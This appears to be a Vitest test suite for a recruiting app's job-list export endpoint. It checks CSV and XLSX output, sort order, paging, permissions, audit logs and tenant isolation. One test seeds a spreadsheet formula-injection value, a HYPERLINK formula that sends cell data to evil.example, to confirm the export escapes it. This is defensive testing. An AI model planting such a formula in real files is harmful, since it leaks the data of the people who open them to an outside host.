/**
 * GET /wildcard/opportunities/export (issue 21): the jobs list as CSV or XLSX, as the candidates
 * export works: the list's filters and order, every row (streamed by keyset, many pages), CSV
 * that no spreadsheet runs as a formula, its own permission, recorded in the audit log.
 */
import { env, SELF } from 'cloudflare:test'
import { and, desc, eq } from 'drizzle-orm'
import { strFromU8, unzipSync } from 'fflate'
import { beforeAll, describe, expect, it } from 'vitest'
import { applications, auditLogs, opportunities } from '../../../worker/db/schema'
import { insertChunks } from '../../../worker/db/seed/batch'
import { systemScope } from '../../../worker/lib/scope'
import { filteredJobPages } from '../../../worker/resources/opportunities/export.service'
import { parseCsv } from '../../setup/csv'
import { as, call, db, HOST, seed } from '../../setup/http'
import { businessBySlug, staffWith } from './helpers'

let owner: string
let recruiter: string
let globex: string
let acmeId: string

const get = (host: string, path: string, cookie?: string) =>
  SELF.fetch(`http://${host}/api/v1${path}`, { headers: cookie ? { cookie } : {} })

/** The CSV's rows (header first), read with "," as most spreadsheets do. */
const csvRows = async (res: Response) => {
  const bytes = new Uint8Array(await res.arrayBuffer())
  expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
  return parseCsv(new TextDecoder().decode(bytes)).filter((r) => r.some(Boolean))
}

/** Every row the list answers for these filters, page after page, in its order. */
async function listed(query: string) {
  const titles: string[] = []
  for (let page = 1; ; page++) {
    const res = await call(HOST.acme, 'GET', `/wildcard/opportunities?${query}&limit=100&page=${page}`, {
      cookie: owner,
    })
    expect(res.status).toBe(200)
    titles.push(...res.body.data.rows.map((r: { title: string }) => r.title))
    if (titles.length >= res.body.data.count) return titles
  }
}

beforeAll(async () => {
  await seed()
  ;[owner, recruiter, globex] = await Promise.all([as.acmeOwner(), as.acmeRecruiter(), as.globexOwner()])
  acmeId = (await businessBySlug('acme')).id
})

describe('GET /wildcard/opportunities/export', () => {
  it('answers the filtered list as CSV, in the list order, with each stage counted, and audits it', async () => {
    const res = await get(
      HOST.acme,
      '/wildcard/opportunities/export?format=csv&status=open&sort=title&order=asc',
      owner,
    )
    expect(res.status).toBe(200)
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8')
    expect(res.headers.get('content-disposition')).toMatch(
      /^attachment; filename="acme-jobs-\d{8}-\d{4}\.csv"; filename\*=UTF-8''acme-jobs-\d{8}-\d{4}\.csv$/,
    )
    expect(res.headers.get('cache-control')).toBe('private, no-store')
    expect(res.headers.get('x-content-type-options')).toBe('nosniff')
    const [header, ...rows] = await csvRows(res)
    expect(header!.slice(0, 5)).toEqual(['Title', 'Code', 'Status', 'Department', 'Branch'])
    expect(header).toEqual(expect.arrayContaining(['Applications', 'New', 'Screening', 'Hired', 'Rejected']))
    expect(rows.map((r) => r[0])).toEqual(await listed('status=open&sort=title&order=asc'))
    expect(new Set(rows.map((r) => r[2]))).toEqual(new Set(['Open']))
    expect(res.headers.get('x-export-rows')).toBe(String(rows.length))
    // Each job's stage columns add up to its applications, and match the job's own pipeline counts.
    const backend = rows.find((r) => r[1] === 'ENG-104')!
    const col = (name: string) => header!.indexOf(name)
    const stageColumns = header!.slice(col('Applications') + 1)
    const total = stageColumns.reduce((n, name) => n + Number(backend[col(name)]), 0)
    expect(Number(backend[col('Applications')])).toBe(total)
    const job = (await db().query.opportunities.findFirst({
      where: and(eq(opportunities.businessId, acmeId), eq(opportunities.code, 'ENG-104')),
    }))!
    const detail = await call(HOST.acme, 'GET', `/wildcard/opportunities/${job.id}`, { cookie: owner })
    expect(total).toBe(detail.body.data.candidate_counts.total)
    expect(total).toBeGreaterThan(0)
    const logged = await db().query.auditLogs.findFirst({
      where: eq(auditLogs.action, 'opportunities.exported'),
      orderBy: desc(auditLogs.createdAt),
    })
    expect(logged).toMatchObject({
      businessId: acmeId,
      actorKind: 'employee',
      entity: 'opportunity',
      details: { format: 'csv', rows: rows.length, filters: { status: 'open', sort: 'title', order: 'asc' } },
    })
  })

  it('answers an XLSX workbook by default that re-opens with the searched jobs only', async () => {
    const res = await get(HOST.acme, '/wildcard/opportunities/export?search=engineer', owner)
    expect(res.status).toBe(200)
    expect(res.headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet')
    expect(res.headers.get('content-disposition')).toMatch(/acme-jobs-\d{8}-\d{4}\.xlsx/)
    const files = unzipSync(new Uint8Array(await res.arrayBuffer()))
    expect(strFromU8(files['xl/workbook.xml']!)).toContain('name="Jobs"')
    const sheet = strFromU8(files['xl/worksheets/sheet1.xml']!)
    const titles = [...sheet.matchAll(/<c r="A(\d+)" t="inlineStr"><is><t xml:space="preserve">([^<]*)</g)]
      .filter((m) => m[1] !== '1')
      .map((m) => m[2])
    expect(titles).toEqual(await listed('search=engineer'))
    expect(titles.length).toBeGreaterThan(1)
    expect(titles.every((t) => /engineer/i.test(t!))).toBe(true)
    // Openings and the stage counts are numbers, Created a date.
    expect(sheet).toMatch(/<c r="J2"><v>\d+<\/v><\/c>/)
    expect(sheet).toMatch(/<c r="T2" s="1"><v>\d+\.?\d*<\/v><\/c>/)
  })

  it('quotes every cell a spreadsheet would run as a formula, whichever separator it reads with', async () => {
    const hostile = '=HYPERLINK("http://evil.example/?d="&A2,"Open");@SUM(1)'
    await db()
      .insert(opportunities)
      .values({ businessId: acmeId, title: hostile, code: 'EVIL-1', skills: ['+cmd', 'Go'], location: '-2+3' })
    const res = await get(HOST.acme, '/wildcard/opportunities/export?format=csv&search=EVIL-1', owner)
    const text = new TextDecoder().decode(await res.arrayBuffer())
    const [, row] = parseCsv(text)
    expect(row![0]).toBe(`'=HYPERLINK("http://evil.example/?d="&A2,"Open");'@SUM(1)`)
    expect(row![8]).toBe("'-2+3")
    expect(row![15]).toBe("'+cmd, Go")
    // Read with ";" (most of Europe) no field starts a formula either.
    for (const line of text.split('\r\n'))
      for (const field of line.split(';')) expect(field.replace(/^"/, '')).not.toMatch(/^[=+\-@]/)
  })

  it('streams every job of a large business across many pages, each once, in order', async () => {
    const start = Date.UTC(2024, 0, 1)
    // 2,300 jobs: three pages, many sharing a creation time (the pages must neither skip nor repeat).
    const jobs = Array.from({ length: 2300 }, (_, i) => ({
      id: crypto.randomUUID(),
      businessId: acmeId,
      title: `Bulk role ${String(i).padStart(4, '0')}`,
      code: `BULK-${i}`,
      skills: [],
      status: 'draft' as const,
      createdAt: new Date(start + Math.floor(i / 9) * 60_000),
    }))
    await db().batch(insertChunks(db(), opportunities, jobs) as never)
    const res = await get(HOST.acme, '/wildcard/opportunities/export?format=csv&status=draft', owner)
    expect(res.status).toBe(200)
    const [, ...rows] = await csvRows(res)
    const drafts = await db().$count(
      opportunities,
      and(eq(opportunities.businessId, acmeId), eq(opportunities.status, 'draft')),
    )
    expect(rows).toHaveLength(drafts)
    expect(new Set(rows.map((r) => r[1])).size).toBe(drafts)
    expect(res.headers.get('x-export-rows')).toBe(String(drafts))
    const created = rows.map((r) => r[19]!)
    expect([...created].sort().reverse()).toEqual(created)
    // The same order as the list's (its first and last pages).
    const first = await call(HOST.acme, 'GET', '/wildcard/opportunities?status=draft&limit=100', { cookie: owner })
    expect(rows.slice(0, 100).map((r) => r[1])).toEqual(
      first.body.data.rows.map((r: { code: string | null }) => r.code ?? ''),
    )
    const sorted = await get(
      HOST.acme,
      '/wildcard/opportunities/export?format=csv&status=draft&sort=title&order=asc',
      owner,
    )
    const [, ...byTitle] = await csvRows(sorted)
    const titles = byTitle.map((r) => r[0]!)
    expect(titles).toHaveLength(drafts)
    expect(titles.filter((t) => t.startsWith('Bulk role'))).toEqual(jobs.map((j) => j.title))
  })

  it('sorts by candidates, deadline and publication (jobs without one first when ascending) like the list', async () => {
    await db().insert(opportunities).values({ businessId: acmeId, title: 'Undated Engineer', skills: [] })
    const scope = systemScope(db(), env, await businessBySlug('acme'))
    for (const sort of ['candidates', 'deadline', 'published_at'])
      for (const order of ['asc', 'desc']) {
        const query = `sort=${sort}&order=${order}&search=engineer`
        const res = await get(HOST.acme, `/wildcard/opportunities/export?format=csv&${query}`, owner)
        const [, ...rows] = await csvRows(res)
        const titles = rows.map((r) => r[0])
        const expected = await listed(query)
        expect(titles, query).toEqual(expected)
        expect(titles).toContain('Undated Engineer')
        // Two rows a page: every seek past a sort key (a count, an empty deadline) keeps the order.
        const small: string[] = []
        const filters = { sort, order, search: 'engineer' } as Parameters<typeof filteredJobPages>[1]
        for await (const page of filteredJobPages(scope, filters, { pageRows: 2 }))
          small.push(...page.map((r) => r.title))
        expect(small, `${query}, two a page`).toEqual(expected)
      }
  })

  it('is its own permission: 403 without it (view is not enough), 401 without a session', async () => {
    const denied = await get(HOST.acme, '/wildcard/opportunities/export?format=csv', recruiter)
    expect(denied.status).toBe(403)
    expect(((await denied.json()) as { message: string }).message).toBe('You do not have permission to export jobs.')
    const viewer = await staffWith(['opportunities.view'], 'jobviewer')
    expect((await get(HOST.acme, '/wildcard/opportunities/export', viewer)).status).toBe(403)
    const exporter = await staffWith(['opportunities.view', 'opportunities.export'], 'jobexporter')
    expect((await get(HOST.acme, '/wildcard/opportunities/export?format=csv', exporter)).status).toBe(200)
    expect((await get(HOST.acme, '/wildcard/opportunities/export')).status).toBe(401)
  })

  it('refuses a bad format or filter with 422 and writes nothing to the audit log', async () => {
    const before = await db().$count(auditLogs, eq(auditLogs.action, 'opportunities.exported'))
    for (const query of ['format=pdf', 'status=archived', 'sort=salary', 'department_id=nope', 'order=sideways']) {
      const res = await call(HOST.acme, 'GET', `/wildcard/opportunities/export?${query}`, { cookie: owner })
      expect(res.status, query).toBe(422)
      expect(res.body.success).toBe(false)
    }
    expect(await db().$count(auditLogs, eq(auditLogs.action, 'opportunities.exported'))).toBe(before)
  })

  it("keeps each business to its own jobs: Globex's export holds none of Acme's", async () => {
    const res = await get(HOST.globex, '/wildcard/opportunities/export?format=csv', globex)
    expect(res.status).toBe(200)
    const [, ...rows] = await csvRows(res)
    const acmeTitles = new Set(
      (
        await db()
          .select({ title: opportunities.title })
          .from(opportunities)
          .where(eq(opportunities.businessId, acmeId))
      ).map((r) => r.title),
    )
    expect(rows.length).toBeGreaterThan(0)
    for (const r of rows) expect(acmeTitles.has(r[0]!), r[0]).toBe(false)
    expect(res.headers.get('content-disposition')).toContain('globex-jobs-')
    // A job's counts are its business's: the file's applications are Globex's, all of them.
    const globexId = (await businessBySlug('globex')).id
    const [header] = await csvRows(await get(HOST.globex, '/wildcard/opportunities/export?format=csv', globex))
    const total = rows.reduce((n, r) => n + Number(r[header!.indexOf('Applications')]), 0)
    expect(total).toBe(await db().$count(applications, eq(applications.businessId, globexId)))
  })
})
